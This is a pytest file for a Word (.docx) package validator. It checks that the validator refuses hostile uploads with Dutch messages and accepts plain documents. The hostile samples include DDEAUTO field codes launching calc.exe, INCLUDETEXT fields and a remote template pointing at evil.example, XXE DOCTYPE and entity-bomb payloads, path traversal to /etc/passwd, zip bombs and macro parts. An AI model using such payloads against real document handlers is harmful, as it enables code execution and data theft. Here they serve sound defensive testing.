"""What the package validator accepts and refuses (security.md 2b)."""

import io
import stat
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from letters import package
from letters.catalogue import CATALOGUE
from letters.package import Refused
from rules.errors import Refusal
from tests.letters.packages import (
    OFFICE,
    W,
    a_document,
    packed,
    paragraph,
    parts,
    relation,
    relations,
    types,
)

DOCUMENT_RELATIONS = "word/_rels/document.xml.rels"
GOOD = a_document()


def with_relation(kind: str, target: str, *, external: bool = False, **more: str) -> bytes:
    row = relation(kind, target, external=external)
    return a_document(**{DOCUMENT_RELATIONS: relations(row), **more})


def field(*pieces: str) -> bytes:
    """A field whose code is spread over runs, as Word does."""
    codes = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return a_document(f"<w:p>{mark.format('begin')}{codes}{mark.format('end')}</w:p>")


def entry(name: str = "word/extra.xml", *, mode: int = 0, content: bytes = b"<a/>") -> bytes:
    out = io.BytesIO(GOOD)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo(name)
        info.external_attr = mode << 16
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, content)
    return out.getvalue()


def lying_about_size() -> bytes:
    """A part of 30 MB that the directory calls one byte."""
    data = bytearray(entry(content=b"<a>" + b"x" * 30_000_000 + b"</a>"))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<L", 1)
    return bytes(data)


def encrypted() -> bytes:
    data = bytearray(GOOD)
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def twice() -> bytes:
    out = io.BytesIO(GOOD)
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", "<a/>")
    return out.getvalue()


DOCTYPE = '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>'
BOMB = '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
IMAGE = "http://evil.example/a.png"

HOSTILE = {
    "empty file": (b"", "beschadigd"),
    "plain text": (b"hallo", "beschadigd"),
    "old Word file": (b"\xd0\xcf\x11\xe0" + b"x" * 600, "beschadigd"),
    "too large": (GOOD + b"0" * 11_000_000, "10 MB"),
    "bytes in front": (b"MZ" + GOOD, "beschadigd"),
    "archive in front": (GOOD + GOOD, "vóór of achter"),
    "bytes behind": (GOOD + b"x", "vóór of achter"),
    "encrypted": (encrypted(), "wachtwoord"),
    "truncated": (GOOD[:-30], "beschadigd"),
    "other archive": (packed({"a.xml": "<a/>"}), "beschadigd"),
    "symbolic link": (entry(mode=stat.S_IFLNK | 0o777), "verwijzing naar een ander bestand"),
    "path upwards": (entry("word/../../extra.xml"), "ongeldige naam"),
    "absolute path": (entry("/extra.xml"), "ongeldige naam"),
    "drive letter": (entry("C:extra.xml"), "ongeldige naam"),
    "control character": (entry("word/a\x07.xml"), "ongeldige naam"),
    "same name in capitals": (entry("WORD/document.xml"), "dubbel"),
    "macro": (entry("word/vbaProject.bin"), "mag: word/vbaProject.bin"),
    "program": (entry("word/media/image1.exe"), "hier niet mag"),
    "document inside": (entry("word/embeddings/a.docx"), "hier niet mag"),
    "web page inside": (entry("word/afchunk.html"), "hier niet mag"),
    "many entries": (packed(parts(**{f"word/{n}.xml": "<a/>" for n in range(501)})), "500"),
    "lies about its size": (lying_about_size(), "20 MB"),
    "packed too well": (entry(content=b"<a>" + b" " * 5_000_000 + b"</a>"), "sterk ingepakt"),
    "broken xml": (entry(content=b"<a>"), "beschadigd"),
    "doctype": (entry(content=DOCTYPE.encode()), "DOCTYPE"),
    "doctype in footnotes": (entry("word/footnotes.xml", content=DOCTYPE.encode()), "DOCTYPE"),
    "doctype in utf-16": (entry(content=DOCTYPE.encode("utf-16")), "DOCTYPE"),
    "entity bomb": (entry(content=BOMB.encode()), "DOCTYPE"),
    "doctype in relations": (
        a_document(**{DOCUMENT_RELATIONS: BOMB}), "DOCTYPE",
    ),
    "macro type": (
        a_document(**{"[Content_Types].xml": types(
            main="application/vnd.ms-word.document.macroEnabled.main+xml")}), "macro",
    ),
    "template type": (
        a_document(**{"[Content_Types].xml": types(
            main="application/vnd.openxmlformats-officedocument.wordprocessingml.template"
            ".main+xml")}), "geen gewoon Word-document",
    ),
    "ole type": (
        a_document(**{"[Content_Types].xml": types(
            '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument'
            '.oleObject"/>')}), "ingesloten objecten",
    ),
    "type told twice": (
        a_document(**{"[Content_Types].xml": types(
            '<Override PartName="/WORD/document.xml" ContentType="application/xml"/>')}),
        "beschadigd",
    ),
    "external template": (
        with_relation("attachedTemplate", "http://evil.example/a.dotm", external=True), "niet mag",
    ),
    "external image": (with_relation("image", IMAGE, external=True), "buiten het bestand"),
    "image on a share": (
        with_relation("image", "file://evil.example/a.png", external=True), "buiten het bestand",
    ),
    "link to a program": (
        with_relation("hyperlink", "file:///c:/calc.exe", external=True), "buiten het bestand",
    ),
    "script link": (
        with_relation("hyperlink", "javascript:alert(1)", external=True), "buiten het bestand",
    ),
    "ole object": (with_relation("oleObject", "document.xml"), "niet mag"),
    "embedded package": (with_relation("package", "document.xml"), "niet mag"),
    "chunk": (with_relation("aFChunk", "document.xml"), "niet mag"),
    "sub document": (with_relation("subDocument", "document.xml"), "niet mag"),
    "frame": (with_relation("frame", "document.xml"), "niet mag"),
    "control": (with_relation("control", "document.xml"), "niet mag"),
    "mail merge source": (with_relation("mailMergeSource", "document.xml"), "niet mag"),
    "own ribbon": (
        with_relation("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
                      "document.xml"), "niet mag",
    ),
    "relation from elsewhere": (with_relation("http://evil.example/image", "document.xml"),
                                "niet mag"),
    "missing target": (with_relation("image", "media/none.png"), "ontbreekt"),
    "target outside": (with_relation("image", "../../../etc/passwd"), "ontbreekt"),
    "relation told twice": (
        a_document(**{DOCUMENT_RELATIONS: relations(*[relation("image", "document.xml")] * 2)}),
        "beschadigd",
    ),
    "alternative chunk": (a_document('<w:altChunk/>'), "vreemd bestand"),
    "old object": (
        a_document('<w:p><w:object><o:OLEObject xmlns:o="urn:o"/></w:object></w:p>'),
        "ingesloten object",
    ),
    "picture in old markup": (
        a_document(f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{IMAGE}"/>'),
        "van buiten",
    ),
    "mail merge": (
        a_document(**{"word/settings.xml": f"<w:settings {W}><w:mailMerge/></w:settings>"}),
        "samenvoegbron",
    ),
    "dde": (field(' DDEAUTO c:\\\\windows\\\\calc.exe "a" '), "veldcode"),
    "dde over runs": (field(" DD", "EAU", "TO c:\\\\calc.exe "), "veldcode"),
    "dde in lower case": (field(" dde a b "), "veldcode"),
    "dde in a simple field": (
        a_document('<w:p><w:fldSimple w:instr=" DDE a b "/></w:p>'), "veldcode",
    ),
    "dde out of another field": (
        a_document(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:instrText>TITLE</w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ), "veldcode",
    ),
    "included text": (field(' INCLUDETEXT "http://evil.example/a.docx" '), "veldcode"),
    "included picture": (field(' INCLUDEPICTURE "http://evil.example/a.png" '), "veldcode"),
    "macro button": (field(" MACROBUTTON Doe klik "), "veldcode"),
    "link field to a share": (field(r' HYPERLINK "\\evil\a" '), "veldcode"),
    "unfinished field": (
        a_document("<w:p><w:r><w:instrText>DDE a</w:instrText></w:r></w:p>"), "veldcode",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("data", "words"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_file_is_refused_with_a_dutch_reason(data, words):
    with pytest.raises(Refused, match=words):
        package.validate(data)


def test_a_part_that_stands_twice_is_refused():
    with pytest.raises(Refused, match="dubbel"):
        package.validate(twice())


def test_a_refused_file_is_a_refusal_like_any_other():
    with pytest.raises(Refusal, match=r"Dit bestand is beschadigd of geen Word-bestand\."):
        package.validate(b"")


def as_python_docx_saves_it() -> bytes:
    out = io.BytesIO()
    document = Document()
    document.add_heading("Kop")
    document.add_table(2, 2)
    document.save(out)
    return out.getvalue()


FRIENDLY = {
    "three parts": GOOD,
    "stored, not deflated": packed(parts(), zipfile.ZIP_STORED),
    "made by python-docx": as_python_docx_saves_it(),
    "link to a site": with_relation("hyperlink", "https://www.ssr.nl/?a=1&amp;b=2", external=True),
    "link to an address": with_relation("hyperlink", "mailto:a@ssr.example", external=True),
    "page number": field(" PAGE ", " \\* MERGEFORMAT "),
    "link field": field(' HYPERLINK "https://www.ssr.nl/" \\o "Naar de site" '),
    "a picture": with_relation("image", "media/a.png", **{"word/media/a.png": "x"}),
    **{str(kind): definition.path.read_bytes() for kind, definition in CATALOGUE.items()},
}


@pytest.mark.parametrize("data", FRIENDLY.values(), ids=FRIENDLY.keys())
def test_a_plain_document_is_accepted(data):
    package.validate(data)


def verdict(data: bytes) -> str | None:
    """The reason for refusing, or None; any other exception is an accident."""
    try:
        package.validate(data)
    except Refused as refused:
        return refused.sentence
    return None


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_a_damaged_file_is_refused_and_never_an_accident(data):
    damaged = bytearray(CATALOGUE[next(iter(CATALOGUE))].path.read_bytes())
    for _ in range(data.draw(st.integers(1, 8))):
        damaged[data.draw(st.integers(0, len(damaged) - 1))] ^= 1 << data.draw(st.integers(0, 7))
    cut = data.draw(st.integers(0, len(damaged)))
    for candidate in (bytes(damaged), bytes(damaged[:cut]), bytes(damaged[cut:])):
        assert verdict(candidate) is None or verdict(candidate).endswith(".")


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(sorted(parts())), st.binary(max_size=60), st.data())
def test_damage_inside_a_part_is_refused_and_never_an_accident(name, noise, data):
    content = {one: str(words).encode() for one, words in parts().items()}
    at = data.draw(st.integers(0, len(content[name])))
    content[name] = content[name][:at] + noise + content[name][at + len(noise) :]
    sentence = verdict(packed(content))
    assert sentence is None or sentence.endswith(".")


def test_unpacking_stops_at_the_limit_whatever_the_directory_says():
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = b"".join(packer.compress(bytes(2**20)) for _ in range(200)) + packer.flush()
    info = zipfile.ZipInfo("a.xml")
    info.compress_type, info.file_size = zipfile.ZIP_DEFLATED, 10
    tracemalloc.start()
    try:
        with pytest.raises(Refused, match="20 MB"):
            package._content(bomb, info)
        assert tracemalloc.get_traced_memory()[1] < 60 * 2**20
    finally:
        tracemalloc.stop()


def test_the_main_part_is_the_one_the_package_names():
    moved = parts()
    moved["word/brief.xml"] = moved.pop("word/document.xml")
    moved["_rels/.rels"] = relations(relation(f"{OFFICE}/officeDocument", "word/brief.xml"))
    moved["[Content_Types].xml"] = types().replace("/word/document.xml", "/word/brief.xml")
    assert package.main_part(package.read_parts(packed(moved))) == "word/brief.xml"


def test_text_of_a_page_of_spaces_is_no_bomb():
    package.validate(a_document(paragraph(" " * 500_000)))
